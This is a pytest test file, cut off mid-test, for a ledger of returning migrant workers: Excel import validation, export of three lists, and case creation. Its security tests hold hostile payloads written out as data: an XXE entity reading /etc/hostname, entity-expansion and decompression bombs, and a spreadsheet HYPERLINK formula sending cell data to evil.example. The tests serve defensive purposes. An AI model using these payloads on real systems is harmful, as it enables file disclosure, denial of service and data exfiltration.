"""The return-visit ledger: import (service, CLI, API), all-or-nothing validation naming each bad row and field,
a 10,000-row file, the three lists as Excel, and temp_job cases for unemployed workers who want work."""

from __future__ import annotations

import io
import time
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import event, func, select, update
from stdnum.cn import ric

from engine import ledger, ledger_export, ledger_sheet
from engine.actors import Actor
from engine.db import db
from engine.errors import DataInvalid, Forbidden
from engine.models import Case
from engine.placements import LedgerWorker
from tests.conftest import at, make_user

NOW = at("2021-01-29 10:00")
PASSWORD = "correct-horse-9"
HEADER = [c.title for c in ledger_sheet.COLUMNS]


def ric_for(i: int, region: str = "532301") -> str:
    born = date(1985, 1, 1) + timedelta(days=i // 900)
    base = f"{region}{born:%Y%m%d}{i % 900 + 100:03d}"
    return base + ric.calc_check_digit(base + "0")


def row(i: int, **overrides) -> list:
    values = {
        "name": f"务工人员{i}", "id_number": ric_for(i), "phone": f"139{i:08d}", "work_place": "浙江省宁波市",
        "employer": "宁波某电子厂", "job": "装配工", "wage": "5200.50", "going_home": "是", "home_date": "2021-02-05",
        "travel_mode": "火车", "travel_number": "K1234", "wish_to_return": "是", "employed": "是",
        "unemployed_reason": None, "training_wish": None,
    }
    values.update(overrides)
    return [values[c.key] for c in ledger_sheet.COLUMNS]


def write_xlsx(path: Path, rows, header=HEADER) -> Path:
    path.write_bytes(xlsx_bytes(rows, header))
    return path


def xlsx_bytes(rows, header=HEADER) -> bytes:
    """A ledger workbook of `rows` under `header` (the ledger's column titles; None: no header row)."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("回访台账")
    if header:
        sheet.append(header)
    for r in rows:
        sheet.append(r)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def count() -> int:
    return db.session.scalar(select(func.count()).select_from(LedgerWorker))


def auth(client, username: str) -> dict:
    response = client.post("/api/v1/auth/token", json={"username": username, "password": PASSWORD})
    return {"Authorization": "Bearer " + response.get_json()["token"]}


UNEMPLOYED = {"employed": "否", "unemployed_reason": "企业停工待岗", "work_place": None, "employer": None,
              "job": None, "wage": None, "training_wish": "电工培训"}


# ---------------------------------------------------------------------------------------------------------------
# Import.

def test_good_rows_are_created_then_updated_by_id_number(clerk, tmp_path):
    rows = [row(1), row(2, going_home="否", home_date=None, travel_mode=None, travel_number=None),
            row(3, **UNEMPLOYED), row(4, wage=4800, home_date=date(2021, 2, 7), going_home=True)]
    result = ledger.import_ledger(clerk, str(write_xlsx(tmp_path / "a.xlsx", rows)), "532301", NOW)
    assert (result.rows, result.created, result.updated, result.region) == (4, 4, 0, "532301")
    one = db.session.scalar(select(LedgerWorker).where(LedgerWorker.id_number == ric_for(1)))
    assert (one.name, one.phone, one.wage, one.going_home, one.home_date, one.wish_to_return, one.employed) == (
        "务工人员1", "13900000001", Decimal("5200.50"), True, date(2021, 2, 5), True, True)
    four = db.session.scalar(select(LedgerWorker).where(LedgerWorker.id_number == ric_for(4)))
    assert (four.wage, four.home_date) == (Decimal("4800.00"), date(2021, 2, 7))
    three = db.session.scalar(select(LedgerWorker).where(LedgerWorker.id_number == ric_for(3)))
    assert (three.employed, three.unemployed_reason, three.employer) == (False, "企业停工待岗", None)
    three.case_number = "TJ-532301-2021-000009"
    db.session.commit()

    later = at("2021-02-10 10:00")
    rows = [row(3, employed="是", employer="楚雄某公司"), row(5)]
    result = ledger.import_ledger(clerk, str(write_xlsx(tmp_path / "b.xlsx", rows)), "532301", later)
    assert (result.rows, result.created, result.updated) == (2, 1, 1)
    assert count() == 5
    db.session.expire_all()
    three = db.session.scalar(select(LedgerWorker).where(LedgerWorker.id_number == ric_for(3)))
    assert (three.employed, three.employer, three.case_number) == (True, "楚雄某公司", "TJ-532301-2021-000009")
    assert three.updated_at == later and three.created_at == NOW


def test_a_file_with_bad_rows_imports_nothing_and_names_each_row_and_field(clerk, tmp_path):
    ledger.import_ledger(clerk, str(write_xlsx(tmp_path / "old.xlsx", [row(1)])), "532301", NOW)
    rows = [
        row(1, name="改过的名字"),                                  # row 2: good (would update)
        row(2, id_number=ric_for(2)[:-1] + ("0" if ric_for(2)[-1] != "0" else "1")),  # row 3: checksum
        row(3, phone="12345"),                                     # row 4
        row(4, home_date="2021-02-30"),                            # row 5
        row(5, going_home="也许"),                                  # row 6
        row(6, wage="五千"),                                        # row 7
        row(7, id_number=ric_for(3)),                              # row 8: duplicate of row 4's ID
        row(8, name=None),                                         # row 9
        row(9, **{**UNEMPLOYED, "unemployed_reason": None}),       # row 10
        row(10, going_home="是", home_date=None),                  # row 11
        row(11, wage="1200.555"),                                  # row 12
    ]
    with pytest.raises(ledger.LedgerInvalid) as err:
        ledger.import_ledger(clerk, str(write_xlsx(tmp_path / "bad.xlsx", rows)), "532301", NOW)
    found = {(e.row, e.field) for e in err.value.errors}
    assert found == {(3, "id_number"), (4, "phone"), (5, "home_date"), (6, "going_home"), (7, "wage"),
                     (8, "id_number"), (9, "name"), (10, "unemployed_reason"), (11, "home_date"), (12, "wage")}
    assert err.value.total == 10
    assert "row3.id_number" in err.value.fields and "第8行" in err.value.fields["row8.id_number"]
    assert "第4行" in err.value.fields["row8.id_number"]
    assert "第3行 身份证号码（id_number）" in str(next(e for e in err.value.errors if e.row == 3))
    db.session.expire_all()
    assert count() == 1
    assert db.session.scalar(select(LedgerWorker.name)) == "务工人员1"  # the good row 2 was not applied either


def test_a_cell_that_fails_gets_one_error_not_a_second_saying_it_is_missing(clerk):
    rows = [row(1, **{**UNEMPLOYED, "unemployed_reason": "停" * 201}),
            row(2, going_home="是", home_date="2021-02-30")]
    with pytest.raises(ledger.LedgerInvalid) as err:
        ledger.import_ledger(clerk, io.BytesIO(xlsx_bytes(rows)), "532301", NOW)
    assert [(e.row, e.field, e.message) for e in err.value.errors] == [
        (2, "unemployed_reason", "最多 200 个字符"), (3, "home_date", "日期格式须为 YYYY-MM-DD")]
    assert err.value.total == 2 and count() == 0


def test_a_formula_the_file_has_no_result_for_is_named_not_read_as_empty(clerk):
    # Written by a program (openpyxl here), never calculated by Excel: the file stores the formula alone.
    rows = [row(1, employer='=HYPERLINK("http://x.example","某厂")', wage="=4000+1000"), row(2)]
    with pytest.raises(ledger.LedgerInvalid) as err:
        ledger.import_ledger(clerk, io.BytesIO(xlsx_bytes(rows)), "532301", NOW)
    assert {(e.row, e.field) for e in err.value.errors} == {(2, "employer"), (2, "wage")}
    assert all(e.message == ledger_sheet.FORMULA_WITHOUT_VALUE for e in err.value.errors)
    assert count() == 0


def test_header_problems_and_files_that_are_not_ledgers(clerk, tmp_path):
    header = [h for h in HEADER if h != "身份证号码"]
    with pytest.raises(ledger.LedgerInvalid) as err:
        ledger.import_ledger(clerk, str(write_xlsx(tmp_path / "h.xlsx", [row(1)[:1] + row(1)[2:]], header)),
                             "532301", NOW)
    assert [(e.row, e.field) for e in err.value.errors] == [(1, "id_number")]
    with pytest.raises(ledger.LedgerInvalid):
        ledger.import_ledger(clerk, str(write_xlsx(tmp_path / "empty.xlsx", [], header=None)), "532301", NOW)
    with pytest.raises(ledger.LedgerInvalid) as err:  # the column names and nobody under them
        ledger.import_ledger(clerk, str(write_xlsx(tmp_path / "names.xlsx", [])), "532301", NOW)
    assert [e.message for e in err.value.errors] == [ledger.NO_DATA_ROWS]
    (tmp_path / "x.xlsx").write_bytes(b"not a workbook")
    with pytest.raises(DataInvalid) as err:
        ledger.import_ledger(clerk, str(tmp_path / "x.xlsx"), "532301", NOW)
    assert "file" in err.value.fields
    (tmp_path / "x.csv").write_text("姓名,身份证号码\n", encoding="utf-8")
    with pytest.raises(DataInvalid) as err:
        ledger.import_ledger(clerk, str(tmp_path / "x.csv"), "532301", NOW)
    assert "file" in err.value.fields
    # Headers by alias and English keys, blank rows skipped.
    aliased = ["姓名", "公民身份号码", "电话", "是否返乡", "返乡日期", "是否就业", "未就业原因", "wage"]
    result = ledger.import_ledger(clerk, str(write_xlsx(tmp_path / "alias.xlsx", [
        ["张三", ric_for(1), "13900000001", "否", None, "否", "待业", " 3000 "], [None] * 8,
        ["李四", ric_for(2), "13900000002", "是", "2021/2/6", "是", None, None]], aliased)), "532301", NOW)
    assert (result.rows, result.created) == (2, 2)


def test_stray_blank_cells_far_away_do_not_make_the_import_crawl(clerk):
    """One blank cell at column XFD and one far down stretch the sheet's used area to 16,384 columns and 20,000
    rows (or 1,048,576): the 5 KB file imported its one row in about 30 s."""
    for far_row in (20000, 1048576):
        workbook = Workbook()
        sheet = workbook.active
        sheet.append(HEADER)
        sheet.append(row(1))
        sheet.cell(row=2, column=16384, value=" ")
        sheet.cell(row=far_row, column=1, value=" ")
        buffer = io.BytesIO()
        workbook.save(buffer)
        started = time.perf_counter()
        result = ledger.import_ledger(clerk, buffer, "532301", NOW)
        assert time.perf_counter() - started < 2, far_row
        assert (result.rows, result.created + result.updated) == (1, 1)


def test_a_ledger_past_the_row_limit_is_refused_whole(clerk, monkeypatch):
    monkeypatch.setattr(ledger_sheet, "MAX_DATA_ROWS", 3)
    three = [row(1), [None] * len(HEADER), row(2), row(3)]  # blank rows are nobody
    assert ledger.import_ledger(clerk, io.BytesIO(xlsx_bytes(three)), "532301", NOW).rows == 3
    with pytest.raises(DataInvalid) as err:
        ledger.import_ledger(clerk, io.BytesIO(xlsx_bytes([row(i) for i in range(4, 9)])), "532301", NOW)
    assert err.value.fields == {"file": "台账超过 3 行，未导入任何数据：请分成多个文件导入（例如按乡镇）"}
    assert count() == 3  # none of the five


def test_a_title_row_above_the_header_is_skipped(clerk):
    """Government templates put the ledger's title (and a line for the township and date) above the column
    names."""
    title = ["楚雄市外出务工人员回访台账"] + [None] * (len(HEADER) - 1)
    rows = [["填报单位：鹿城镇", None, "填报日期：2021年1月29日"], HEADER, row(1), row(2, phone="12345")]
    with pytest.raises(ledger.LedgerInvalid) as err:
        ledger.import_ledger(clerk, io.BytesIO(xlsx_bytes(rows, header=title)), "532301", NOW)
    assert [(e.row, e.field) for e in err.value.errors] == [(5, "phone")]  # numbered as Excel shows them
    rows[-1] = row(2)
    result = ledger.import_ledger(clerk, io.BytesIO(xlsx_bytes(rows, header=title)), "532301", NOW)
    assert (result.rows, result.created) == (2, 2)
    # No header among the first five non-blank rows: said so once, not five missing columns in row 1.
    lines = [[f"说明{i}"] for i in range(5)]
    with pytest.raises(ledger.LedgerInvalid) as err:
        ledger.import_ledger(clerk, io.BytesIO(xlsx_bytes([*lines, HEADER, row(3)], header=title)), "532301", NOW)
    assert [(e.row, e.message) for e in err.value.errors] == [(0, ledger_sheet.NO_HEADER)]
    assert f"前{ledger_sheet.HEADER_ROWS}行" in ledger_sheet.NO_HEADER
    # A header under the title that lacks a column is named by its own row.
    with pytest.raises(ledger.LedgerInvalid) as err:
        ledger.import_ledger(clerk, io.BytesIO(xlsx_bytes([HEADER[:-3], row(3)[:-3]], header=title)), "532301", NOW)
    assert [(e.row, e.field) for e in err.value.errors] == [(2, "employed")]


def test_region_and_role_are_checked(clerk, tmp_path):
    path = str(write_xlsx(tmp_path / "a.xlsx", [row(1)]))
    with pytest.raises(Forbidden):
        ledger.import_ledger(clerk, path, "532322", NOW)
    with pytest.raises(DataInvalid) as err:
        ledger.import_ledger(clerk, path, "5323", NOW)
    assert "region" in err.value.fields
    inspector = Actor.of(make_user("insp_cx", ["inspector"], "532301"))
    with pytest.raises(Forbidden):
        ledger.import_ledger(inspector, path, None, NOW)
    assert count() == 0


def test_ten_thousand_rows(clerk, tmp_path):
    rows = (row(i, **(UNEMPLOYED if i % 10 == 0 else {})) for i in range(10000))
    path = write_xlsx(tmp_path / "big.xlsx", rows)
    seen: list[int] = []
    result = ledger.import_ledger(clerk, str(path), "532301", NOW, progress=seen.append)
    assert (result.rows, result.created, result.updated) == (10000, 10000, 0)
    assert count() == 10000
    assert seen[-1] == 10000 and len(seen) >= 10 and seen == sorted(seen)
    assert db.session.scalar(select(func.count()).select_from(LedgerWorker)
                             .where(LedgerWorker.employed.is_(False))) == 1000
    # One bad row at the very end: still nothing new, and the 10,000 already there are untouched.
    rows = [row(i, name="新名字") for i in range(9999)] + [row(20000, phone="x")]
    with pytest.raises(ledger.LedgerInvalid) as err:
        ledger.import_ledger(clerk, str(write_xlsx(tmp_path / "big2.xlsx", rows)), "532301", NOW)
    assert [(e.row, e.field) for e in err.value.errors] == [(10001, "phone")]
    assert db.session.scalar(select(func.count()).select_from(LedgerWorker)
                             .where(LedgerWorker.name == "新名字")) == 0


# ---------------------------------------------------------------------------------------------------------------
# Lists, export and cases.

def _load(tmp_path: Path, clerk: Actor) -> None:
    rows = [row(1), row(2, going_home="否", home_date=None, wish_to_return="否"),
            row(3, **UNEMPLOYED), row(4, **UNEMPLOYED, wish_to_return="否"), row(5, **UNEMPLOYED)]
    ledger.import_ledger(clerk, str(write_xlsx(tmp_path / "l.xlsx", rows)), "532301", NOW)


def test_export_writes_the_three_lists_with_masked_ids(clerk, tmp_path):
    _load(tmp_path, clerk)
    target = tmp_path / "out.xlsx"
    counts = ledger_export.export_lists(clerk, None, str(target))
    assert counts == {"going_home": 4, "returning": 3, "unemployed": 3}
    workbook = load_workbook(target, read_only=True)
    try:
        assert workbook.sheetnames == ["春节返乡人员清单", "返岗人员清单", "未就业人员清单"]
        sheet = list(workbook["未就业人员清单"].iter_rows(values_only=True))
        assert sheet[0][:4] == ("序号", "区划", "姓名", "身份证号码")
        assert [r[2] for r in sheet[1:]] == ["务工人员3", "务工人员4", "务工人员5"]
        assert all(r[3].startswith("**************") and r[3][-4:] == ric_for(3 + i)[-4:]
                   for i, r in enumerate(sheet[1:]))
        assert sheet[1][15] == "企业停工待岗"
    finally:
        workbook.close()
    # Another county's clerk exports nothing of ours.
    far = Actor.of(make_user("clerk_sb", ["clerk"], "532322"))
    assert ledger_export.export_lists(far, None, str(tmp_path / "far.xlsx")) == {"going_home": 0, "returning": 0,
                                                                          "unemployed": 0}


def write_text_xlsx(path: Path, rows) -> Path:
    """A ledger as a county's Excel holds it: every string a text cell, so "=1+1" is text, not a formula."""
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("回访台账")
    sheet.append(HEADER)
    for values in rows:
        cells = []
        for value in values:
            cell = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                cell.data_type = "s"
            cells.append(cell)
        sheet.append(cells)
    workbook.save(path)
    return path


def _as_exported(values: list, number: int, region_title: str) -> tuple:
    """An imported row as the lists show it: numbered, the county named, the ID number masked, the wage a number,
    the date a date; yes/no were imported as 是/否 already."""
    out: list = [number, region_title]
    for column, value in zip(ledger_sheet.COLUMNS, values, strict=True):
        if value is not None and column.kind == "id":
            value = "*" * 14 + value[-4:]
        elif value is not None and column.kind == "money":
            value = float(value)  # openpyxl reads a number with decimals back as a float
        elif value is not None and column.kind == "date":
            value = datetime.fromisoformat(value)  # openpyxl reads a date cell back as a datetime
        out.append(value)
    return (*out, None)  # no temp_job case yet


def test_exported_lists_read_back_as_imported(clerk, tmp_path):
    """Every cell of the three lists, read back, is what the counties imported, on the lists and in the order
    engine.ledger.LISTS gives; text that looks like a formula, an error value or a negative number stays text."""
    chuxiong = [
        row(1, name="=1+1", job="@SUM(A1)", travel_number="-5", work_place="宁波 & <北仑>"),
        row(2, going_home="否", home_date=None, travel_mode=None, travel_number=None, wish_to_return=None),  # none
        row(3, **{**UNEMPLOYED, "unemployed_reason": "#N/A"}, wish_to_return="否"),
        row(4, wage="4000", training_wish="+技能培训"),
        row(5, **UNEMPLOYED),
    ]
    shuangbai = [
        row(7, id_number=ric_for(7, "532322"), going_home="否", home_date=None),
        row(8, id_number=ric_for(8, "532322"), **UNEMPLOYED),
    ]
    ledger.import_ledger(clerk, str(write_text_xlsx(tmp_path / "cx.xlsx", chuxiong)), "532301", NOW)
    other = Actor.of(make_user("clerk_sb", ["clerk"], "532322"))
    ledger.import_ledger(other, str(write_text_xlsx(tmp_path / "sb.xlsx", shuangbai)), "532322", NOW)
    supervisor = Actor.of(make_user("sup_cz", ["supervisor"], "532300"))

    counts = ledger_export.export_lists(supervisor, None, str(tmp_path / "out.xlsx"))

    by_key = {c.key: i for i, c in enumerate(ledger_sheet.COLUMNS)}
    on_list = {"going_home": lambda r: r[by_key["going_home"]] == "是",
               "returning": lambda r: r[by_key["wish_to_return"]] == "是",
               "unemployed": lambda r: r[by_key["employed"]] == "否"}
    imported = [("楚雄市", r) for r in chuxiong] + [("双柏县", r) for r in shuangbai]  # by region, then row
    header = ("序号", "区划", *HEADER, "临时性岗位案件号")
    workbook = load_workbook(tmp_path / "out.xlsx")
    try:
        assert workbook.sheetnames == [title for title, _ in ledger.LISTS.values()]
        for key, (title, _condition) in ledger.LISTS.items():
            wanted = [r for r in imported if on_list[key](r[1])]
            expected = [_as_exported(values, n, region) for n, (region, values) in enumerate(wanted, 1)]
            sheet = workbook[title]
            assert list(sheet.iter_rows(values_only=True)) == [header, *expected], title
            assert counts[key] == len(expected)
            for cell in (c for line in sheet.iter_rows(min_row=2) for c in line if isinstance(c.value, str)):
                assert cell.data_type == "s", (title, cell.coordinate, cell.value)
                assert cell.quotePrefix == cell.value.startswith(("=", "+", "-", "@")), (title, cell.coordinate)
        home_date = workbook["春节返乡人员清单"].cell(row=2, column=header.index("返乡时间") + 1)
        assert (home_date.is_date, home_date.number_format) == (True, "yyyy-mm-dd")
        # Wages are numbers shown to the fen, so the column sums in Excel (text "5200.50" does not).
        wage = header.index("工资收入（元/月）") + 1
        for title, _condition in ledger.LISTS.values():
            cells = [line[0] for line in workbook[title].iter_rows(min_row=2, min_col=wage, max_col=wage)]
            assert all((c.data_type, c.number_format) == ("n", "#,##0.00") for c in cells if c.value is not None)
        going_home = workbook["春节返乡人员清单"].iter_rows(min_row=2, min_col=wage, max_col=wage, values_only=True)
        assert sum(w for (w,) in going_home if w is not None) == 5200.5 + 4000
    finally:
        workbook.close()
    assert counts == {"going_home": 5, "returning": 5, "unemployed": 3}

    # A control character (or U+FFFE) that reached the database another way is dropped, not a failed export.
    db.session.execute(update(LedgerWorker).where(LedgerWorker.name == "务工人员4")
                       .values(employer="宁波\x01某\ufffe厂"))
    db.session.commit()
    workbook = load_workbook(io.BytesIO(ledger_export.export_bytes(clerk, "532301")[0]), read_only=True)
    try:
        employers = [r[6] for r in workbook["春节返乡人员清单"].iter_rows(min_row=2, values_only=True)]
    finally:
        workbook.close()
    assert employers == ["宁波某电子厂", None, "宁波某厂", None]


def _export_statements(actor: Actor, target: Path) -> tuple[int, dict[str, int]]:
    """The SQL statements one export of the three lists issues, and its counts."""
    statements = 0

    def count(*_args) -> None:
        nonlocal statements
        statements += 1

    event.listen(db.engine, "before_cursor_execute", count)
    try:
        counts = ledger_export.export_lists(actor, None, str(target))
    finally:
        event.remove(db.engine, "before_cursor_execute", count)
    return statements, counts


def test_the_export_issues_as_many_queries_for_200_workers_as_for_50(clerk, tmp_path):
    """A query per worker would make a prefecture's 30,000 workers as many round trips inside one web request."""
    def rows(numbers: range) -> list[list]:
        return [row(i, **(UNEMPLOYED if i % 4 == 0 else {})) for i in numbers]

    ledger.import_ledger(clerk, str(write_xlsx(tmp_path / "a.xlsx", rows(range(50)))), "532301", NOW)
    few, few_counts = _export_statements(clerk, tmp_path / "few.xlsx")
    ledger.import_ledger(clerk, str(write_xlsx(tmp_path / "b.xlsx", rows(range(50, 200)))), "532301", NOW)
    many, many_counts = _export_statements(clerk, tmp_path / "many.xlsx")
    assert few_counts == {"going_home": 50, "returning": 50, "unemployed": 13}
    assert many_counts == {"going_home": 200, "returning": 200, "unemployed": 50}
    assert many == few


def test_unemployed_who_want_work_become_temp_job_cases(clerk, tmp_path):
    _load(tmp_path, clerk)
    # One at a time: the other is said to be waiting.
    first = ledger.create_cases(clerk, NOW, priority_group="returning_migrant", limit=1)
    assert (len(first["opened"]), first["remaining"]) == (1, 1)
    result = ledger.create_cases(clerk, NOW, priority_group="returning_migrant")
    assert len(result["opened"]) == 1 and result["skipped"] == [] and result["remaining"] == 0
    result["opened"] = first["opened"] + result["opened"]
    cases = db.session.scalars(select(Case).where(Case.process == "temp_job").order_by(Case.id)).all()
    assert [c.summary["seeker_name"] for c in cases] == ["务工人员3", "务工人员5"]
    assert {c.summary["priority_group"] for c in cases} == {"returning_migrant"}
    assert cases[0].summary["wishes"]["training_wish"] == "电工培训"
    linked = db.session.scalars(select(LedgerWorker.case_number).where(LedgerWorker.case_number.is_not(None)))
    assert sorted(linked) == sorted(result["opened"])
    assert ledger.create_cases(clerk, NOW) == {"opened": [], "skipped": [], "remaining": 0}  # once only
    with pytest.raises(DataInvalid) as err:
        ledger.create_cases(clerk, NOW, priority_group="vip")
    assert "priority_group" in err.value.fields


# ---------------------------------------------------------------------------------------------------------------
# API and CLI.

def _replace_part(workbook: bytes, name: str, content: bytes) -> bytes:
    """`workbook` with its zip part `name` replaced (or added)."""
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info, source.read(info.filename))
        target.writestr(name, content)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
HOSTILE_WORKBOOKS = {
    # Security review: one string of 100 KB repeated 17,000 times, 1.8 MB packed, took the server to 1.7 GB.
    "shared strings bomb": ("xl/sharedStrings.xml", b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                            b'2006/main"><si><t>' + b"a" * 8_000_000 + b"</t></si></sst>"),
    "rows bomb": (SHEET, b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                  + b"<row/>" * 1_000_000 + b"</sheetData></worksheet>"),
    # These answered 500: the XML parser's errors were not caught.
    "broken XML": (SHEET, b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                   b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c>'),
    "external entity": (SHEET, b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
                        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'),
    "entity expansion": (SHEET, b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
                         + b"".join(b'<!ENTITY %c "%s">' % (98 + i, (b"&%c;" % (97 + i)) * 10) for i in range(8))
                         + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                         b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&i;</t></is></c></row></sheetData>'
                         b"</worksheet>"),
}


@pytest.mark.parametrize("kind", HOSTILE_WORKBOOKS)
def test_a_hostile_workbook_is_refused_with_400_naming_the_file(client, clerk, tmp_path, kind):
    h = auth(client, "clerk_cx")
    part, content = HOSTILE_WORKBOOKS[kind]
    hostile = _replace_part(write_xlsx(tmp_path / "g.xlsx", [row(1)]).read_bytes(), part, content)
    assert len(hostile) < 2 * 1024 * 1024  # under the upload limit: what a signed-in clerk can send
    r = client.post("/api/v1/ledger", data={"file": (io.BytesIO(hostile), "台账.xlsx")}, headers=h,
                    content_type="multipart/form-data")
    assert r.status_code == 400, r.get_data(as_text=True)[:300]
    assert "file" in r.get_json()["error"]["fields"]
    assert count() == 0


def test_api_upload_list_export_and_cases(client, clerk, tmp_path):
    h = auth(client, "clerk_cx")
    good = write_xlsx(tmp_path / "g.xlsx", [row(1), row(2, **UNEMPLOYED)]).read_bytes()
    r = client.post("/api/v1/ledger", data={"file": (io.BytesIO(good), "台账.xlsx")}, headers=h,
                    content_type="multipart/form-data")
    assert r.status_code == 201, r.get_json()
    assert r.get_json() == {"rows": 2, "created": 2, "updated": 0, "region": "532301"}
    # A bad priority group is refused before anything is imported (the answer is 400 and nothing changed).
    other = write_xlsx(tmp_path / "o.xlsx", [row(9)]).read_bytes()
    r = client.post("/api/v1/ledger?create_cases=true&priority_group=vip", data={"file": (io.BytesIO(other), "o.xlsx")},
                    headers=h, content_type="multipart/form-data")
    assert r.status_code == 400 and "priority_group" in r.get_json()["error"]["fields"]
    assert client.get("/api/v1/ledger", headers=h).get_json()["total"] == 2
    # `%` and `_` in a name search are plain characters, not LIKE wildcards that match everyone.
    assert [client.get("/api/v1/ledger", query_string={"q": q}, headers=h).get_json()["total"]
            for q in ("%", "_", "\\")] == [0, 0, 0]
    r = client.post("/api/v1/ledger?create_cases=true", data=good, headers={
        **h, "Content-Type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"})
    assert r.status_code == 201
    assert (r.get_json()["updated"], len(r.get_json()["cases"]["opened"])) == (2, 1)

    bad = write_xlsx(tmp_path / "b.xlsx", [row(3), row(4, phone="1"), row(5, employed="不知道")]).read_bytes()
    r = client.post("/api/v1/ledger", data={"file": (io.BytesIO(bad), "b.xlsx")}, headers=h,
                    content_type="multipart/form-data")
    assert r.status_code == 400
    error = r.get_json()["error"]
    assert error["code"] == "validation_failed" and error["total"] == 2
    assert [(e["row"], e["field"]) for e in error["rows"]] == [(3, "phone"), (4, "employed")]
    assert set(error["fields"]) == {"row3.phone", "row4.employed"}
    assert client.get("/api/v1/ledger", headers=h).get_json()["total"] == 2

    for data, kind in ((b"", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
                       (b"{}", "application/json"), (b"garbage", "application/octet-stream")):
        r = client.post("/api/v1/ledger", data=data, headers={**h, "Content-Type": kind})
        assert r.status_code == 400 and "file" in r.get_json()["error"]["fields"], r.get_json()
    r = client.post("/api/v1/ledger", data={}, headers=h, content_type="multipart/form-data")
    assert r.status_code == 400 and "file" in r.get_json()["error"]["fields"]
    r = client.post("/api/v1/ledger?region=532322", data=good, headers={
        **h, "Content-Type": "application/octet-stream"})
    assert r.status_code == 403

    page = client.get("/api/v1/ledger?list=unemployed", headers=h).get_json()
    assert page["total"] == 1
    assert page["items"][0]["id_number"].startswith("****") and page["items"][0]["case_number"].startswith("TJ-")
    assert client.get("/api/v1/ledger?list=everyone", headers=h).status_code == 400
    assert client.get("/api/v1/ledger?region=532322", headers=h).status_code == 404
    r = client.get("/api/v1/ledger.xlsx", headers=h)
    assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet")
    workbook = load_workbook(io.BytesIO(r.data), read_only=True)
    try:
        assert [len(list(workbook[n].iter_rows())) - 1 for n in workbook.sheetnames] == [2, 2, 1]
    finally:
        workbook.close()

    r = client.post("/api/v1/ledger/cases", json={"priority_group": "nobody"}, headers=h)
    assert r.status_code == 400 and "priority_group" in r.get_json()["error"]["fields"]
    r = client.post("/api/v1/ledger/cases", json={}, headers=h)
    assert r.status_code == 200 and r.get_json() == {"opened": [], "skipped": [], "remaining": 0}
    make_user("insp_cx", ["inspector"], "532301")
    assert client.post("/api/v1/ledger", data=good, headers={**auth(client, "insp_cx"),
                                                              "Content-Type": "application/octet-stream"}
                       ).status_code == 403


def test_cli_import_export_and_cases(app, clerk, tmp_path):
    runner = app.test_cli_runner()
    good = write_xlsx(tmp_path / "g.xlsx", [row(1), row(2, **UNEMPLOYED)])
    result = runner.invoke(args=["ledger", "import", str(good), "--region", "532301", "--user", "clerk_cx",
                                 "--create-cases"])
    assert result.exit_code == 0, result.output
    assert "imported 2 rows into region 532301: 2 created, 0 updated" in result.output
    assert "1 temp_job cases opened" in result.output
    bad = write_xlsx(tmp_path / "b.xlsx", [row(3, id_number="532301198501011234"), row(4, home_date="昨天")])
    result = runner.invoke(args=["ledger", "import", str(bad), "--region", "532301"])
    assert result.exit_code == 2
    assert "第2行 身份证号码（id_number）" in result.output and "第3行 返乡时间（home_date）" in result.output
    out = tmp_path / "lists.xlsx"
    result = runner.invoke(args=["ledger", "export", str(out), "--region", "532301"])
    assert result.exit_code == 0, result.output
    assert "未就业人员清单 1" in result.output and out.exists()
    many = write_xlsx(tmp_path / "m.xlsx", [row(i) for i in range(10, 35)])
    result = runner.invoke(args=["ledger", "import", str(many), "--region", "532301", "--batch-size", "10",
                                 "--progress-every", "10"])
    assert result.exit_code == 0, result.output
    assert "10 rows read" in result.output and "20 rows read" in result.output
    assert "imported 25 rows" in result.output
    result = runner.invoke(args=["ledger", "cases", "--region", "532301"])
    assert result.exit_code == 0 and "0 temp_job cases opened" in result.output
    result = runner.invoke(args=["ledger", "import", str(good), "--region", "532322", "--user", "clerk_cx"])
    assert result.exit_code == 2


# ---------------------------------------------------------------------------------------------------------------
# Imported text stays text in the export; only the ledger's roles read it.

def test_imported_text_is_exported_as_text_never_as_a_formula(clerk, tmp_path):
    from openpyxl.cell import WriteOnlyCell

    evil = '=HYPERLINK("http://evil.example/?"&C2,"点击")'
    upload = Workbook(write_only=True)
    sheet = upload.create_sheet("回访台账")
    sheet.append(HEADER)
    cells = []
    for value in row(1, employer=evil, name="=1+1", **{"job": "@SUM(A1)"}):
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"  # as a county's clerk types it: text, which openpyxl reads back as a str
        cells.append(cell)
    sheet.append(cells)
    upload.save(tmp_path / "county.xlsx")
    ledger.import_ledger(clerk, str(tmp_path / "county.xlsx"), "532301", NOW)
    assert db.session.scalar(select(LedgerWorker.employer)) == evil

    ledger_export.export_lists(clerk, None, str(tmp_path / "out.xlsx"))
    exported = load_workbook(tmp_path / "out.xlsx")
    try:
        worker = exported["春节返乡人员清单"][2]
        by_title = {title: worker[i] for i, title in enumerate(c.value for c in exported["春节返乡人员清单"][1])}
